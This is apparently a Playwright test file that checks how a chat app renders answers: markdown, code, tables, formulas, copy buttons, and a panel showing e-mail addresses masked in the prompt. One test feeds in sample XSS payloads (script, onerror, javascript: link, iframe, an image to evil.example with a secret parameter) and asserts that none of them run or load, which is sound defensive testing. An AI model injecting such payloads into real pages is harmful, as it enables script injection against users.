"""How an answer looks, and what it cannot do."""

from playwright.sync_api import Request, expect

from tests.browser.visitor import Visitor

FURNITURE = """## A heading

Words **in bold**, and a [link](https://example.org/there).

```python
def double(x):
    return 2 * x
```

| a | b |
|---|--:|
| 1 | 2 |

$$
e^{i\\pi} + 1 = 0
$$

Inline $x^2$, and prices from $5 to $10."""

HOSTILE = """<script>document.title = 'taken'</script>

<img src=x onerror="document.title = 'taken'">

![a cat](https://evil.example/cat.png?secret=1) [press](javascript:document.title='taken')

<iframe src="https://evil.example/"></iframe> <style>body { display: none }</style>

The end."""


def test_markdown_code_tables_and_formulas(ada: Visitor) -> None:
    """Each is drawn as what it is; the heavy parts come when they are needed."""
    ada.says("Show me.", text=FURNITURE)
    ada.hears_all()
    answer = ada.answers().last
    expect(answer.get_by_role("heading", name="A heading")).to_be_visible()
    expect(answer.locator(".hljs-keyword").first).to_have_text("def")
    expect(answer.get_by_role("cell", name="2")).to_be_visible()
    expect(answer.locator(".katex-display")).to_be_visible()
    expect(answer.locator(".katex")).to_have_count(2)
    expect(answer).to_contain_text("prices from $5 to $10.")
    expect(answer.get_by_role("link", name="link")).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_code_and_answers_are_copied_as_they_were_written(ada: Visitor) -> None:
    """The code without its frame; the answer as Markdown."""
    ada.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ada.says("Show me.", text=FURNITURE)
    ada.hears_all()
    ada.page.get_by_role("button", name="Copy the code").click()
    assert ada.page.evaluate("navigator.clipboard.readText()") == "def double(x):\n    return 2 * x"
    ada.page.get_by_role("button", name="Copy the answer").click()
    expect(ada.page.get_by_role("button", name="Copied")).to_have_count(2)
    assert ada.page.evaluate("navigator.clipboard.readText()") == FURNITURE


def test_a_hostile_answer_has_no_effect(ada: Visitor) -> None:
    """Nothing it says is run, loaded or hidden; it is text, however it is cut into pieces."""
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    ada.page.on("request", note)
    ada.says("Do your worst.", text=HOSTILE, pieces="char")
    ada.hears_all()
    answer = ada.answers().last
    expect(answer).to_contain_text("The end.")
    expect(answer).to_contain_text("onerror=")
    assert answer.locator("img, script, iframe, style").count() == 0
    assert answer.get_by_role("link").count() == 1
    assert "taken" not in ada.page.title()
    assert all(url.startswith((ada.site, "blob:")) for url in asked)


def test_model_and_cost_are_told_on_demand(ada: Visitor) -> None:
    """One button shows which model answered, for how much."""
    ada.says("Say two words.", text="Two words.")
    ada.hears_all()
    ada.page.get_by_role("button", name="Model and cost").click()
    expect(ada.answers().last).to_contain_text("written")


def test_who_manages_sees_what_was_sent(ada: Visitor) -> None:
    """The prompt with placeholders, in a panel that Esc closes and that gives the focus back."""
    ada.says("Write to olga@rooms.example.", text="I will.")
    ada.hears_all()
    why = ada.page.get_by_role("button", name="Why this answer")
    why.click()
    panel = ada.page.get_by_role("dialog", name="Why this answer")
    expect(panel).to_contain_text("Write to [EMAIL_1].")
    expect(panel).to_contain_text("E-mail addresses: 1")
    expect(panel).not_to_contain_text("olga@")
    ada.page.keyboard.press("Escape")
    expect(panel).to_have_count(0)
    expect(why).to_be_focused()
